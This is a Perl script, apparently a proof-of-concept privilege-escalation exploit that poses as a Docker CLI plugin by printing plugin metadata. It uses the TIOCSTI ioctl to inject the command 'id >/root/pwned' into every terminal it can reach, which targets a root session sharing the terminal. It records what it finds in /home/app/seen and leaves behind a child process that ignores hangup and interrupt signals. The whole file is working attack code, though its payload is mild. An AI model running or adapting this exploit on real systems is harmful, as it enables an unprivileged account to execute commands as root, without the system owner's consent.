#!/usr/bin/perl
# What runs as the account and wants root's terminal: types a command into every one that it reaches, says
# what it saw in ~/seen, and leaves a child that ignores what a terminal sends.
use strict;
use warnings;
use POSIX ();
my @terminals = grep { POSIX::isatty($_) } 0 .. 9;
my $refused = open(my $tty, "+<", "/dev/tty") ? "opened" : "$!";
push @terminals, fileno($tty) if $refused eq "opened";
open(my $seen, ">>", "/home/app/seen") or exit 0;
print $seen "terminals: @terminals\n/dev/tty: $refused\n";
print $seen "leads its session: ", ((split / /, `cat /proc/$$/stat`)[5] == $$ ? "yes" : "no"), "\n";
close $seen;
for my $fd (@terminals) {
    open(my $handle, "+<&=", $fd) or next;
    for my $char (split //, "id >/root/pwned\n") { my $byte = $char; ioctl($handle, 0x5412, $byte) }
}
if (fork == 0) {
    $SIG{$_} = "IGNORE" for qw(TTOU TTIN HUP TERM INT);
    # docker would wait for the end of what it reads of a plugin.
    if (@ARGV) { open($_, ">", "/dev/null") for *STDOUT, *STDERR }
    exec { "/usr/bin/sleep" } "lingers", "500";
}
print '{"SchemaVersion":"0.1.0","Vendor":"x","Version":"1","ShortDescription":"x"}', "\n";
